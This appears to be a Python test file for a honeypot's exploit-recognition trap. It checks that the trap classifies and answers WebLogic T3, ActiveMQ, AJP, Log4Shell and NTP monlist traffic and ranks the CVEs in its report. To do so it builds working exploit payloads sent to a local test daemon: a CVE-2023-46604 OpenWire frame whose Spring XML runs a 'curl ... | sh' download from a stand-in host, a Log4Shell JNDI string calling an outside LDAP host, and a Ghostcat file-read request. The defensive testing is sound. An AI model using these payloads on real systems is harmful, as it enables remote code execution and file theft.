"""
cases_trap.py - the catch-all trap's exploit recognition (src/intel/payloadclass.c,
data/trap/exploits.yar): what arrives on a port with no module gets attack classes and CVEs,
WebLogic's T3 handshake is answered as WebLogic answers it (nmap's weblogic-t3-info names the
version, and the exploit's serialized object that follows is recognised), and the report ranks
the trap's CVEs with the web engine's.

Real client: nmap (weblogic-t3-info).  The exploits' bytes are written from the public
proof-of-concept code of each CVE and sent with python sockets, byte for byte.
"""
import json
import random
import re
import shutil
import socket
import struct
import subprocess
import time

from harness import T, Service, Skip, by, recv_until_eof, wait_for
from cases import case, stop_and_read
from cases_capture import ALLOW_LOOPBACK, WebServer, wait_download
from cases_report import report

T3_HELLO = b"t3 12.2.1\nAS:255\nHL:19\nMS:10000000\nPU:t3://us-l-breens:7001\n\n"
T3_HELO = b"HELO:12.2.1.3.0.false\nAS:2048\nHL:19\nMS:10000000\n\n"


def openwire_exploit(url):
    """CVE-2023-46604: an OpenWire ExceptionResponse whose throwable is a Spring XML context at url."""
    def s(b):
        return struct.pack(">H", len(b)) + b
    body = (b"\x1f" + b"\x00" * 9 + b"\x01\x01" +
            s(b"org.springframework.context.support.ClassPathXmlApplicationContext") + b"\x01" + s(url.encode()))
    return struct.pack(">I", len(body)) + body


def t3_object(gadget):
    """A T3 message carrying a Java serialized object of class gadget."""
    return (bytes.fromhex("000005c3016501ffffffffffffffff") + bytes.fromhex("aced00057372") +
            struct.pack(">H", len(gadget)) + gadget + b"\x00" * 24)


def ajp_ghostcat():
    """CVE-2020-1938 as the public PoC sends it: an AJP13 FORWARD_REQUEST whose attributes make Tomcat
    include /WEB-INF/web.xml."""
    def s(b):
        return struct.pack(">H", len(b)) + b + b"\x00"
    body = b"\x02\x02" + s(b"HTTP/1.1") + s(b"/asdf") + s(b"127.0.0.1") + s(b"localhost") + s(b"localhost")
    body += b"\x00\x50\x00\x00\x00"
    for k, v in ((b"request_uri", b"/"), (b"path_info", b"WEB-INF/web.xml"), (b"servlet_path", b"/")):
        body += b"\x0a" + s(b"javax.servlet.include." + k) + s(v)
    return b"\x12\x34" + struct.pack(">H", len(body) + 1) + body + b"\xff"


def talk(port, chunks, pause=0.5):
    """Send each chunk, reading what comes back between them; returns the bytes received."""
    s = socket.create_connection(("127.0.0.1", port), timeout=T(5))
    got = b""
    try:
        for c in chunks:
            s.sendall(c)
            s.settimeout(pause)
            try:
                while True:
                    b = s.recv(4096)
                    if not b:
                        break
                    got += b
            except socket.timeout:
                pass
    finally:
        s.close()
    return got


def payload_of(evs, session):
    return [e for e in evs if e["eventid"] == "trap.payload" and e["session"] == session]


@case
def trap_exploits_recognised_answered_and_ranked(ctx):
    """T3 (answered, then CVE-2016-0638), ActiveMQ CVE-2023-46604 (its XML fetched), Log4Shell sprayed
    raw, AJP's CPing (answered) and Ghostcat, NTP monlist over UDP (never answered) and a benign line: classes, CVEs and rules on the
    trap.payload events, in JSONL and SQLite alike; the report's CVE and attack-class rankings count
    them from the roll-ups and from the events."""
    web = WebServer()
    ctx.defer(web.close)
    xml = (b'<?xml version="1.0" encoding="UTF-8" ?><beans xmlns="http://www.springframework.org/schema/beans">'
           b'<bean id="pb" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list>'
           b'<value>bash</value><value>-c</value><value>curl -s http://198.51.100.9/kinsing|sh</value>'
           b'</list></constructor-arg></bean></beans>')
    web.files["/poc.xml"] = xml
    # flush_after well above the HELO's bound below: the answer must not wait for a pause
    d = ctx.daemon("trap-exploits", [Service("trap", tcp=1, udp=1, flush_after="3s")],
                   capture=dict(ALLOW_LOOPBACK)).start()
    port, uport = d.svc("trap").port, d.svc("trap").uport

    # WebLogic T3: the HELO comes at once (not after flush_after), then the object is sent
    t0 = time.time()
    s = socket.create_connection(("127.0.0.1", port), timeout=T(5))
    s.sendall(T3_HELLO)
    helo = b""
    while not helo.endswith(b"\n\n"):
        b = s.recv(4096)
        assert b, "closed before the HELO: %r" % helo
        helo += b
    assert helo == T3_HELO, helo
    assert time.time() - t0 < T(1), "the HELO waited for flush_after"
    s.sendall(t3_object(b"weblogic.jms.common.StreamMessageImpl"))
    time.sleep(0.5)
    s.close()

    url = web.url("/poc.xml")
    talk(port, [openwire_exploit(url)])
    assert talk(port, [b"${jndi:ldap://198.51.100.3:1389/Basic/Command/Base64/aWQ=}\r\n"]) == b""
    assert talk(port, [b"hello\r\n"]) == b""
    # Tomcat's AJP connector: the CPing gets the CPong, Ghostcat's request is recorded
    assert talk(port, [b"\x12\x34\x00\x01\x0a"]) == b"AB\x00\x01\x09"
    talk(port, [ajp_ghostcat()])
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(0.5)
    u.sendto(bytes([0x17, 0x00, 0x03, 0x2a]) + b"\x00" * 4, ("127.0.0.1", uport))
    try:
        reply = u.recv(4096)
    except socket.timeout:
        reply = b""
    u.close()
    assert reply == b"", "UDP got an answer: %r" % reply

    # nmap's script reads the version from the same answer ("+": run off its ports 7001-7003)
    if shutil.which("nmap"):
        r = subprocess.run(["nmap", "-Pn", "-n", "-p", str(port), "--script", "+weblogic-t3-info", "127.0.0.1"],
                           capture_output=True, text=True, timeout=T(60))
        assert "WebLogic version: 12.2.1.3" in r.stdout, r.stdout

    wait_download(d, url)
    d.wait_event(lambda e: e["eventid"] == "trap.payload" and e.get("transport") == "udp", what="UDP payload")
    wait_for(lambda: len(by(d.events(), "session.closed")) >= 6, T(10), what="6 sessions closed")
    evs = stop_and_read(d)

    pl = [e for e in evs if e["eventid"] == "trap.payload"]
    def one_with(rule):
        got = [e for e in pl if rule in e.get("class_rules", [])]
        assert len(got) == 1, (rule, [(e.get("class_rules"), e.get("payload", "")[:40]) for e in pl])
        return got[0]
    handshakes = [e for e in pl if "weblogic_t3_handshake" in e.get("class_rules", [])]
    assert all(e["reply_rule"] == "weblogic_t3_handshake" for e in handshakes), handshakes   # nmap's too
    hs = [e for e in handshakes if e["payload"] == T3_HELLO.decode()]
    assert len(hs) == 1, handshakes
    hs = hs[0]
    assert hs["offset"] == 0 and hs["attack_classes"] == ["recon"] and hs["cves"] == [], hs
    assert hs["reply_rule"] == "weblogic_t3_handshake" and hs["payload"] == T3_HELLO.decode(), hs
    obj = one_with("weblogic_t3_gadget_2016_0638")
    assert obj["session"] == hs["session"] and obj["offset"] == len(T3_HELLO), obj
    assert "CVE-2016-0638" in obj["cves"] and "deserialization" in obj["attack_classes"], obj
    assert "reply_rule" not in obj, obj
    amq = one_with("activemq_openwire_spring_xml")
    assert amq["cves"] == ["CVE-2023-46604"] and set(amq["attack_classes"]) == {"deserialization", "rce"}, amq
    dl = [e for e in evs if e["eventid"] == "session.file_download" and e.get("url") == url]
    assert len(dl) == 1 and dl[0]["session"] == amq["session"] and dl[0]["found_in"] == "trap", dl
    assert web.count("/poc.xml") == 1
    l4 = one_with("log4shell_jndi_lookup")
    assert l4["cves"] == ["CVE-2021-44228"] and "jndi" in l4["attack_classes"], l4
    assert one_with("ajp13_cping")["reply_rule"] == "ajp13_cping"
    gc = one_with("ajp13_ghostcat")
    assert gc["cves"] == ["CVE-2020-1938"] and "lfi" in gc["attack_classes"], gc
    ntp = one_with("ntp_monlist")
    assert ntp["transport"] == "udp" and ntp["cves"] == ["CVE-2013-5211"] and "reply_rule" not in ntp, ntp
    benign = [e for e in pl if e.get("payload") == "hello\r\n"]
    assert len(benign) == 1 and not ({"attack_classes", "cves", "class_rules"} & set(benign[0])), benign
    sq = {e["uid"]: e for e in d.sqlite_events()}
    for e in pl:
        assert sq[e["uid"]] == e, "SQLite differs for %s" % e["uid"]

    want_cves = {}
    want_classes = {}
    for e in evs:
        for c in e.get("cves", []):
            want_cves[c] = want_cves.get(c, 0) + 1
        for c in e.get("attack_classes", []):
            want_classes[c] = want_classes.get(c, 0) + 1
    assert {"CVE-2016-0638", "CVE-2023-46604", "CVE-2021-44228", "CVE-2013-5211"} <= set(want_cves), want_cves
    day = evs[0]["timestamp"][:10]
    for extra in ([], ["--no-rollup"]):
        rep = json.loads(report(d, "--json", "--since", day, "--top", "50", *extra))
        secs = {s["id"]: s for s in rep["sections"]}
        got = {r["cve"]: r["attempts"] for r in secs["cves"]["rows"]}
        assert got == want_cves, (extra, got, want_cves)
        for r in secs["cves"]["rows"]:
            assert r["vulnerability"], "%s has no name in cves.tsv" % r["cve"]
        got = {r["class"]: r["attempts"] for r in secs["attack_classes"]["rows"]}
        assert got == want_classes, (extra, got, want_classes)
        assert secs["attack_classes"]["title"] == "Attack classes", secs["attack_classes"]["title"]


def openwire_properties(frame):
    """(version, {name: value}) of an OpenWire WireFormatInfo frame (loose encoding), checking
    every length on the way: a 4-byte size that covers the rest, type 1, the magic, the version,
    the properties' byte sequence and MarshallingSupport's primitive map inside it."""
    size, typ = struct.unpack(">IB", frame[:5])
    assert size == len(frame) - 4 and typ == 1 and frame[5:13] == b"ActiveMQ", frame[:16]
    version, present, plen = struct.unpack(">IBI", frame[13:22])
    assert present == 1 and plen == len(frame) - 22, (present, plen, len(frame))
    m, pos = frame[22:], 4
    count, props = struct.unpack(">I", m[:4])[0], {}
    for _ in range(count):
        n = struct.unpack(">H", m[pos:pos + 2])[0]
        name, pos = m[pos + 2:pos + 2 + n].decode(), pos + 2 + n
        t, pos = m[pos], pos + 1
        if t == 1:
            props[name], pos = bool(m[pos]), pos + 1
        elif t == 5:
            props[name], pos = struct.unpack(">i", m[pos:pos + 4])[0], pos + 4
        elif t == 6:
            props[name], pos = struct.unpack(">q", m[pos:pos + 8])[0], pos + 8
        elif t == 9:
            k = struct.unpack(">H", m[pos:pos + 2])[0]
            props[name], pos = m[pos + 2:pos + 2 + k].decode(), pos + 2 + k
        else:
            raise AssertionError("type %d for %s" % (t, name))
    assert pos == len(m), (pos, len(m))
    return version, props


@case
def trap_activemq_greets_as_a_broker(ctx):
    """A trap with banner_kind = activemq (the shipped config's 61616) greets at once with an
    ActiveMQ 5.15.15 broker's WireFormatInfo, every length in it right, its PlatformDetails naming
    the kernel the SSH shell's Debian box reports; the CVE-2023-46604 exploit a scanner sends after
    reading it is recognised as before; nmap -sV calls the port ActiveMQ OpenWire 5.15.15."""
    if not shutil.which("nmap"):
        raise Skip("nmap is not installed")
    ip = "127.%d.%d.%d" % (random.randint(1, 250), random.randint(1, 250), random.randint(2, 250))
    d = ctx.daemon("activemq", [Service("trap", bind=ip, tcp_ports=[61616], banner_kind="activemq", banner_delay="0",
                                        flush_after="300ms"),
                                Service("docker", protocol="trap", bind=ip, tcp_ports=[2375])]).start()
    s = socket.create_connection((ip, 61616), timeout=T(5))
    frame = b""
    while len(frame) < 4 or len(frame) < 4 + struct.unpack(">I", frame[:4])[0]:
        b = s.recv(4096)
        assert b, frame
        frame += b
    version, props = openwire_properties(frame)
    assert version == 12, version
    assert props["ProviderName"] == "ActiveMQ" and props["ProviderVersion"] == "5.15.15", props
    assert props["MaxInactivityDuration"] == 30000 and props["TightEncodingEnabled"] is True, props
    m = re.match(r"^JVM: 1\.8\.0_\d+, 25\.\d+-b\d+, Oracle Corporation, OS: Linux, (6\.1\.0-\d+-amd64), amd64$",
                 props["PlatformDetails"])
    assert m, props["PlatformDetails"]
    # the same kernel as the Docker API's (both read the sensor's Debian box)
    c = socket.create_connection((ip, 2375), timeout=T(5))
    c.sendall(b"GET /version HTTP/1.0\r\n\r\n")
    resp = recv_until_eof(c)
    c.close()
    assert json.loads(resp.split(b"\r\n\r\n", 1)[1])["KernelVersion"] == m.group(1), (resp, props)
    assert list(props)[:4] == ["TcpNoDelayEnabled", "CacheSize", "SizePrefixDisabled", "ProviderName"], list(props)
    s.sendall(openwire_exploit("http://192.0.2.91/poc.xml"))
    time.sleep(0.5)
    s.close()
    out = subprocess.run(["nmap", "-sV", "--version-light", "-Pn", "-n", "-p", "61616", ip],
                         capture_output=True, text=True, timeout=T(120)).stdout
    assert "ActiveMQ OpenWire transport 5.15.15" in out, out
    evs = stop_and_read(d)
    pay = [e for e in evs if e["eventid"] == "trap.payload" and "activemq_openwire_spring_xml" in e.get("class_rules", [])]
    assert pay and pay[0]["cves"] == ["CVE-2023-46604"], [e for e in evs if e["eventid"] == "trap.payload"]
